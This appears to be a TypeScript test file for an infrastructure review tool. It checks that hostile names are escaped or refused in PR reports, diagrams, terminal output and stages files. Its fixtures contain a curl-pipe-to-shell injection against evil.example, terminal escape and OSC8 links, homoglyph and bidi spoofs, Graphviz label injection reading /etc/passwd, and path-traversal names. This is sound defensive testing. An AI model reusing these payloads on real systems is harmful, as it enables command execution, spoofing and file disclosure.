/**
 * A change under review writes the names, labels, values and file names the review prints. These
 * attacks put Markdown, HTML, terminal escapes, bidi and zero-width characters, mentions, math and
 * very long words into them and check that the report (a PR comment), the Mermaid and DOT pictures,
 * the console lines and the stages file stay inert and show every change; that names which would
 * become paths or shell words are refused; and that a stages file edited after the review is refused.
 * The CLI side (stdout of npm run review and apply:staged) is in hostile-names.integration.test.ts.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, describe, expect, it, vi } from "vitest";
import { diffStacks } from "../../scripts/review/classify";
import { buildInventory, type Annotation } from "../../scripts/review/inventory";
import { renderReport } from "../../scripts/review/markdown";
import { consoleLines, consoleText, dotHtmlText, dotText, mdText, mermaidText } from "../../scripts/review/safe-text";
import {
  checkPlanDigest,
  fileStack,
  parseStagesFile,
  planDigest,
  PLAN_PREFIX,
  STAGES_FILE_VERSION,
  StagesFileError,
  type FileStack,
} from "../../scripts/review/stages-file";
import { readSynthOutput, ReviewError } from "../../scripts/review/synth";
import { LABELS, type Body } from "../../scripts/review/terraform-json";
import { buildTopology, renderDot } from "../../scripts/review/topology";
import { loadPlan, main as applyStaged, parseArgs } from "../../scripts/staged-apply";
import { baseStack, containers, pairOf, volumes, type Stack } from "./fixtures";
import { editConfig, storeStack } from "./store-fixtures";

const TMP = mkdtempSync(join(tmpdir(), "hostile-names-"));
afterAll(() => rmSync(TMP, { recursive: true, force: true }));

/** What a PR can write into a name or a value, one attack each. */
const H = {
  comment: "t-db-data<!-- everything after this is hidden in the PR comment",
  details: "<details><summary>nothing to see</summary>",
  table: "</td></tr></table>",
  fence: "x\n```\n<!--",
  pipes: "a | b | c",
  link: "[approve](javascript:alert(1))",
  picture: "![ok](https://evil.example/ok.png)",
  mention: "@platform-team",
  bidi: "t-db\u202Egnp.exe",
  zeroWidth: "t-a\u200Bpi",
  escape: "\u001b[2K\rsafe",
  osc8: "\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007",
  math: "$\\phantom{hidden}$",
  strike: "~~struck~~",
  entity: "&#x202E;reversed",
  long: "y".repeat(5000),
  backslash: "x\\",
  /** Cyrillic а (U+0430) and о (U+043E): reads as "postgres-api". */
  cyrillic: "p\u043Estgres-\u0430pi",
  /** One dot leader (U+2024) and division slash (U+2215): reads as "api.updateio.com/admin". */
  dotSlash: "api\u2024updateio.com\u2215admin",
} as const;

const labelsOf = (body: Body) => body.labels as { label: string; value: string }[];
function setService(body: Body, service: string): void {
  for (const l of labelsOf(body)) if (l.label === LABELS.service) l.value = service;
}

/** The fixture stack with a hostile value in every name and file the report prints. */
function hostileStack(): Stack {
  const s = baseStack();
  s.resource.docker_network!.app!.name = `${H.table}${H.details}`;
  s.resource.docker_image!.img!.name = `ghcr.io/x/${H.osc8}:1@sha256:${"a".repeat(64)}`;
  volumes(s).data!.name = H.comment;
  volumes(s).secrets!.name = H.math;
  const c = containers(s);
  c.db!.name = H.bidi;
  setService(c.db!, H.mention);
  c.db!.user = H.escape;
  // Where the report prints them: a mount's path inside the container, a volume's name.
  (c.db!.volumes as Body[])[0]!.container_path = `/var/lib/${H.cyrillic}/${H.dotSlash}`;
  c.db!.ports = [{ internal: 5432, external: 5432, ip: H.zeroWidth, protocol: H.strike }];
  for (const k of ["api_1", "api_2", "api_seed"]) setService(c[k]!, `api${H.fence}`);
  c.api_1!.user = c.api_2!.user = H.long;
  (c.api_seed!.upload as Body[]).push({ file: `/run/secrets/${H.link}`, content: "x" }, { file: `/etc/${H.picture}`, content: "y" });
  return s;
}

/** Head: the hostile data volume removed (data loss), an env key with every attack added to the api (replaced). */
function hostilePair(): { before: Stack; after: Stack } {
  return pairOf(hostileStack, (after) => {
    delete volumes(after).data;
    containers(after).db!.volumes = [];
    for (const k of ["api_1", "api_2"])
      (containers(after)[k]!.env as string[]).push(...Object.values(H).map((v, i) => `${v.replace(/[=\n]/g, "_")}${i}=1`));
  });
}

const annotations: Annotation[] = [
  {
    constructPath: `t/${H.mention}`,
    level: "@cdktf/info",
    message: `[no-root] suppressed: ${H.comment} (finding: x; suppressed on t/${H.link})`,
  },
  { constructPath: "t/x", level: "@cdktf/warn", message: `[pinned-images] ${H.details} — more` },
  { constructPath: "t/y", level: "@cdktf/warn", message: `stack warning ${H.osc8}` },
  { constructPath: "t/z", level: "@cdktf/error", message: `${H.fence} ${H.math}` },
];

function report(before: Stack, after: Stack): string {
  const inventory = buildInventory("t", after, annotations);
  return renderReport({
    inventory,
    topology: buildTopology(inventory, after),
    json: after,
    picture: { missing: `dot failed: ${H.comment}` },
    diff: diffStacks("t", before, after),
    against: "git `main`",
  });
}

/** Fenced blocks (our mermaid and sh) and our own code spans are left out of the Markdown checks. */
function prose(markdown: string): string {
  return markdown.replace(/^```[a-z]*\n[\s\S]*?^```$/gm, "").replace(/(?<!\\)`[^`\n]+`/g, "");
}

/** Everything that would make a rendered PR comment hide, restyle or link text, or a terminal act on it. */
function markdownProblems(markdown: string): string[] {
  const problems: string[] = [];
  const text = prose(markdown);
  const find = (what: string, re: RegExp) => {
    const m = re.exec(text);
    if (m) problems.push(`${what}: ${JSON.stringify(text.slice(Math.max(0, m.index - 40), m.index + 40))}`);
  };
  find("raw HTML", /<(?!br>)[A-Za-z/!?]/);
  find("hidden character", /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
  find("link or image", /(?<!\\)\]\(/);
  find("mention", /(^|[^\w`])@[A-Za-z0-9]/m);
  find("math", /(?<!\\)\$/);
  find("strike-through", /(?<!\\)~/);
  // Our own escapes are &lt; and &amp;; any other entity came from a name.
  find("entity", /&(?!lt;|amp;)#?[A-Za-z0-9]+;/);
  find("unpaired backtick", /^[^`\n]*(?<!\\)`[^`\n]*$/m);
  find("word longer than 300 characters", /\S{301}/);
  for (const line of markdown.split("\n").filter((l) => /^\s*```/.test(l)))
    if (!["```mermaid", "```sh", "```"].includes(line)) problems.push(`fence line ${JSON.stringify(line)}`);
  // Table rows: as many unescaped pipes as the header has.
  let columns = 0;
  for (const line of markdown.split("\n")) {
    if (!line.startsWith("|")) {
      columns = 0;
      continue;
    }
    const pipes = (line.match(/(?<!\\)\|/g) ?? []).length;
    if (columns === 0) columns = pipes;
    else if (pipes !== columns) problems.push(`table row with ${pipes} cells edges, header has ${columns}: ${line.slice(0, 80)}`);
  }
  return problems;
}

describe("the Markdown report with hostile names", () => {
  const { before, after } = hostilePair();
  const md = report(before, after);

  it("renders nothing a name or value wrote as markup: no HTML, comment, link, mention, math, hidden character, stray fence or broken table row", () => {
    expect(markdownProblems(md).join("\n")).toBe("");
  });

  it("still shows every change: the data loss under its (escaped) name, the replaced api, and every section after them", () => {
    expect(md).toContain(`- **DATA LOSS**: ${mdText(H.comment)} (docker_volume.data)`);
    expect(md).toContain("t-db-data&lt;!-- everything after this is hidden");
    expect(md).toMatch(/^### Removed \(1\)$/m);
    expect(md).toContain("| docker_container.api_1 |");
    expect(md).toContain("## Topology");
    expect(md.trimEnd().split("\n").pop()).toMatch(/^\| /);
  });

  it("shows look-alike letters and punctuation as \\u{...}: a name cannot pass for another", () => {
    expect(md).not.toContain(H.cyrillic);
    expect(md).toContain("/var/lib/p\\u{043E}stgres-\\u{0430}pi/api\\u{2024}updateio.com\\u{2215}admin");
    expect(prose(md)).not.toMatch(/(?![\x00-\x7F])[\p{L}\p{M}\p{N}]/u);
  });

  it("shows hidden characters as \\u{...} and long words cut with a count", () => {
    expect(md).toContain("t-db\\u{202E}gnp.exe");
    expect(md).toContain("t-a\\u{200B}pi");
    expect(md).toContain(`${"y".repeat(240)}… (`);
  });

  it("the Mermaid block: labels cannot end the fence, start HTML or break the line", () => {
    const mermaid = /^```mermaid\n([\s\S]*?)^```$/m.exec(md)![1]!;
    expect(mermaid).not.toMatch(/[`<]/);
    for (const line of mermaid.trimEnd().split("\n")) expect(line).toMatch(/^(flowchart LR|\s+\S.*)$/);
    expect(mermaid).toContain(mermaidText(`api${H.fence}`).slice(1, -1));
  });
});

describe("escaping functions", () => {
  const ordinary = [
    "t-api-1",
    "docker_container.api_seed",
    "/run/secrets/db_password",
    "ghcr.io/updateio/api:1.0.0@sha256:aaaaaaaaaaaa…",
    "127.0.0.1:8080→3000/tcp",
    "api:/run/secrets/session_secret, bot:/etc/x.yaml",
    "lifecycle.ignore_changes",
    "apply it with `terraform apply -replace=docker_service.api` = downtime",
    'overlay options without lifecycle ignore_changes ["options"]: replaced',
    "A & B (x) {y} #1 ×3 ↔ … — 8080→3000",
  ];

  it.each(ordinary)("leaves ordinary text as it is: %s", (text) => {
    expect(mdText(text)).toBe(text);
    expect(consoleText(text)).toBe(text);
  });

  it.each([
    [H.comment, "t-db-data&lt;!-- everything after this is hidden in the PR comment"],
    [H.link, "\\[approve\\](javascript:alert(1))".replace("\\[", "[")],
    [H.mention, "`@`platform-team"],
    [H.math, "\\$\\\\phantom{hidden}\\$"],
    [H.entity, "&amp;#x202E;reversed"],
    ["a `b", "a \\`b"],
    ["_x_ and *y*", "\\_x\\_ and \\*y\\*"],
    [H.backslash, "x\\\\"],
  ])("mdText(%j) = %j", (input, output) => {
    expect(mdText(input)).toBe(output);
  });

  it.each([
    ["Cyrillic а and о", H.cyrillic, "p\\u{043E}stgres-\\u{0430}pi"],
    ["Greek ο", "p\u03BFstgres", "p\\u{03BF}stgres"],
    ["fullwidth letters", "\uFF41pi", "\\u{FF41}pi"],
    ["Arabic-Indic digits", "api-\u0663", "api-\\u{0663}"],
    ["a combining accent", "api\u0301", "api\\u{0301}"],
    ["one dot leader and division slash", H.dotSlash, "api\\u{2024}updateio.com\\u{2215}admin"],
    ["hyphen and minus sign", "t\u2010db\u2212data", "t\\u{2010}db\\u{2212}data"],
    ["fullwidth solidus and colon", "a\uFF0Fb\uFF1Ac", "a\\u{FF0F}b\\u{FF1A}c"],
  ])("look-alikes: %s are shown as code points everywhere", (_what, input, shown) => {
    expect(mdText(input)).toBe(shown);
    expect(consoleText(input)).toBe(shown);
    expect(consoleLines(`${input}\n${input}`)).toBe(`${shown}\n${shown}`);
    expect(mermaidText(input)).toBe(`"${shown.replace(/\\/g, "#92;")}"`);
    expect(dotText(input)).toBe(`"${shown.replace(/\\/g, "\\\\")}"`);
    expect(dotHtmlText(input)).toBe(shown);
  });

  it("consoleText: no escape sequence, carriage return, line break or bidi override reaches the terminal", () => {
    for (const hostile of [H.escape, H.osc8, H.bidi, H.zeroWidth, "a\nb", "\u009b31m", "\u2028"])
      expect(consoleText(hostile)).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}]/u);
    expect(consoleText(H.escape)).toBe("\\u{001B}[2K\\u{000D}safe");
    expect(consoleLines("a\u001b[31m\nb")).toBe("a\\u{001B}[31m\nb");
  });
});

describe("the Graphviz picture", () => {
  it("a network name cannot close the legend's HTML label and add nodes or read files (IMG SRC)", () => {
    const s = hostileStack();
    s.resource.docker_network!.app!.name = '</td></tr></table>>]; evil [label=<<IMG SRC="/etc/passwd"/>>]; x [label=<';
    const dot = renderDot(buildTopology(buildInventory("t", s), s));
    expect(dot).not.toContain("<IMG");
    expect(dot).toContain("&#60;/td&#62;&#60;/tr&#62;&#60;/table&#62;&#62;]; evil");
    expect(dot.split("\n").filter((l) => l.includes("legend ["))).toHaveLength(1);
  });
});

describe("names that would become paths or shell words are refused when the synth output is read", () => {
  function synthOut(name: string, stacks: Record<string, unknown>, manifest?: unknown): string {
    const dir = join(TMP, name);
    for (const [stack, json] of Object.entries(stacks)) {
      mkdirSync(join(dir, "stacks", stack), { recursive: true });
      writeFileSync(join(dir, "stacks", stack, "cdk.tf.json"), JSON.stringify(json));
    }
    if (manifest) writeFileSync(join(dir, "manifest.json"), JSON.stringify(manifest));
    return dir;
  }

  it("reads an ordinary folder", () => {
    expect(readSynthOutput(synthOut("ok", { t: baseStack() })).map((s) => s.name)).toEqual(["t"]);
  });

  it.each([
    ["a resource name with a backtick and shell syntax", "x`;curl evil.example|sh;`", /resource address "docker_container\.x`;curl/],
    ["a resource name that is an option", "-destroy", /is not a Terraform identifier/],
    ["a resource name with a line break", "x\n```", /is not a Terraform identifier/],
  ])("refuses %s", (_what, name, message) => {
    const s = baseStack();
    containers(s)[name] = containers(s).db!;
    const dir = synthOut(`addr-${Math.random().toString(36).slice(2)}`, { t: s });
    expect(() => readSynthOutput(dir)).toThrow(ReviewError);
    expect(() => readSynthOutput(dir)).toThrow(message);
  });

  it("refuses a stack name that is a path (the report is written to <out>/<stack>.md)", () => {
    const dir = synthOut(
      "stack-path",
      { t: baseStack() },
      {
        stacks: { "../../../tmp/pwned": { synthesizedStackPath: "stacks/t/cdk.tf.json", annotations: [] } },
      },
    );
    expect(() => readSynthOutput(dir)).toThrow(/stack name "\.\.\/\.\.\/\.\.\/tmp\/pwned" does not match/);
  });

  it("refuses a manifest that points outside the folder (its JSON error would quote the file)", () => {
    writeFileSync(join(TMP, "secret.txt"), "s3cr3t-token");
    const dir = synthOut(
      "manifest-path",
      { t: baseStack() },
      {
        stacks: { t: { synthesizedStackPath: "../secret.txt", annotations: [] } },
      },
    );
    expect(() => readSynthOutput(dir)).toThrow(/synthesizedStackPath "\.\.\/secret\.txt" outside/);
  });
});

describe("a stages file edited after the review", () => {
  function reviewed(): { after: Stack; entry: FileStack } {
    const before = storeStack();
    const after = storeStack();
    after.resource.docker_image!.redis!.name = "redis:7.4.7@sha256:" + "4".repeat(64);
    editConfig(after, "postgres_server");
    editConfig(after, "postgres_replica-1");
    return { after, entry: fileStack("t", after, diffStacks("t", before, after).staged) };
  }
  const reparse = (entry: unknown) => parseStagesFile(JSON.stringify({ version: STAGES_FILE_VERSION, stacks: [entry] })).stacks[0]!;
  type Editable = { stages: { stage: number; targets: string[]; why: string }[]; conflicts: string[] };

  it("the file as written passes", () => {
    const { entry } = reviewed();
    expect(entry.stages.length).toBeGreaterThan(2);
    expect(() => checkPlanDigest(reparse(entry))).not.toThrow();
  });

  it.each<[string, (e: Editable) => void]>([
    [
      "two stages swapped (renumbered, so each stage still looks valid)",
      (e) => {
        [e.stages[0], e.stages[1]] = [e.stages[1]!, e.stages[0]!];
        e.stages.forEach((s, i) => (s.stage = i + 1));
      },
    ],
    ["a target moved to another stage", (e) => e.stages[1]!.targets.push(e.stages[0]!.targets.pop()!)],
    ["a stage's targets replaced by other resources of the stack", (e) => (e.stages[0]!.targets = [...e.stages[1]!.targets])],
    ["the reason shown to the operator", (e) => (e.stages[0]!.why = "harmless: nothing is replaced")],
    ["the conflicts shown to the operator", (e) => (e.conflicts = [])],
  ])("refuses %s (the digest covered only cdk.tf.json before)", (_what, edit) => {
    const entry = JSON.parse(JSON.stringify(reviewed().entry)) as Editable;
    edit(entry);
    const parsed = reparse(entry);
    expect(() => checkPlanDigest(parsed)).toThrow(StagesFileError);
    expect(() => checkPlanDigest(parsed)).toThrow(/was changed after the review .*write the file again/);
  });

  /** A project folder with the reviewed synth and a stages file holding `entry`. */
  function project(name: string, after: Stack, entry: unknown): string {
    const cwd = join(TMP, name);
    mkdirSync(join(cwd, "cdktf.out", "stacks", "t"), { recursive: true });
    writeFileSync(join(cwd, "cdktf.out", "stacks", "t", "cdk.tf.json"), JSON.stringify(after));
    writeFileSync(join(cwd, "stages.json"), JSON.stringify({ version: STAGES_FILE_VERSION, stacks: [entry] }));
    return cwd;
  }
  const opts = { stack: "t", stages: "stages.json", autoApprove: true, pauseSeconds: 0, skipInit: true, dryRun: true, help: false };

  it("apply:staged refuses the swapped stages before anything runs", () => {
    const { after, entry } = reviewed();
    const edited = JSON.parse(JSON.stringify(entry)) as Editable;
    [edited.stages[0], edited.stages[1]] = [edited.stages[1]!, edited.stages[0]!];
    edited.stages.forEach((s, i) => (s.stage = i + 1));
    const cwd = project("swapped", after, edited);
    expect(() => loadPlan(opts, cwd)).toThrow(/was changed after the review/);
    expect(() => loadPlan(opts, project("as-reviewed", after, entry))).not.toThrow();
  });

  it("apply:staged refuses a target named like an Object property (constructor), also in a re-sealed file", () => {
    const { after, entry } = reviewed();
    const edited = JSON.parse(JSON.stringify(entry)) as Editable & FileStack;
    edited.stages[0]!.targets = ["docker_container.constructor"];
    const sealed = { ...edited, planDigest: planDigest(edited) };
    expect(() => loadPlan(opts, project("constructor", after, sealed))).toThrow(
      /target docker_container\.constructor is not a resource of/,
    );
  });

  it("--expect-plan holds apply:staged to the stages the approved review showed, even against a re-sealed file", () => {
    const { after, entry } = reviewed();
    const shown = entry.planDigest.slice(0, PLAN_PREFIX);
    expect(() => loadPlan({ ...opts, expectPlan: shown }, project("expected", after, entry))).not.toThrow();
    const edited = JSON.parse(JSON.stringify(entry)) as Editable & FileStack;
    edited.stages[0]!.why = "harmless: nothing is replaced";
    const resealed = { ...edited, planDigest: planDigest(edited) };
    const cwd = project("resealed", after, resealed);
    expect(() => loadPlan(opts, cwd)).not.toThrow(); // a re-sealed file passes its own digest
    expect(() => loadPlan({ ...opts, expectPlan: shown }, cwd)).toThrow(/not the reviewed stages/);
  });

  it("the report shows the plan digest with the --expect-plan command, and --expect-plan takes only a long enough hex prefix", () => {
    const before = storeStack();
    const { after, entry } = reviewed();
    const inventory = buildInventory("t", after, []);
    const report = renderReport({
      inventory,
      topology: buildTopology(inventory, after),
      json: after,
      picture: { missing: "not rendered in this test" },
      diff: diffStacks("t", before, after),
      against: "git HEAD",
      planDigest: entry.planDigest,
    });
    expect(report).toContain(`Stages file plan digest: \`${entry.planDigest}\``);
    expect(report).toContain(`--expect-plan ${entry.planDigest.slice(0, PLAN_PREFIX)}\``);
    for (const bad of ["abc", entry.planDigest.slice(0, PLAN_PREFIX).toUpperCase(), `-${entry.planDigest.slice(0, PLAN_PREFIX)}`])
      expect(() => parseArgs(["--stack", "t", "--stages", "s.json", "--expect-plan", bad])).toThrow(
        /--expect-plan .* must be 16 to 64 lowercase hex digits/,
      );
  });

  describe("what apply:staged prints", () => {
    afterEach(() => vi.restoreAllMocks());

    it("conflicts and reasons from the file reach the terminal without escape sequences or line breaks", () => {
      const { after, entry } = reviewed();
      const hostile = {
        ...entry,
        conflicts: [`${H.osc8} ${H.escape}`],
        stages: entry.stages.map((s) => ({ ...s, why: `${H.bidi}\n${H.escape}` })),
      };
      const cwd = project("printed", after, { ...hostile, planDigest: planDigest(hostile) });
      const out: string[] = [];
      vi.spyOn(process.stdout, "write").mockImplementation((chunk) => (out.push(String(chunk)), true));
      expect(applyStaged(["--stack", "t", "--stages", "stages.json", "--dry-run"], cwd)).toBe(0);
      const text = out.join("");
      expect(text).toContain("click");
      expect(text).not.toMatch(/[\u001b\u0007\r\u202E]/);
    });
  });
});
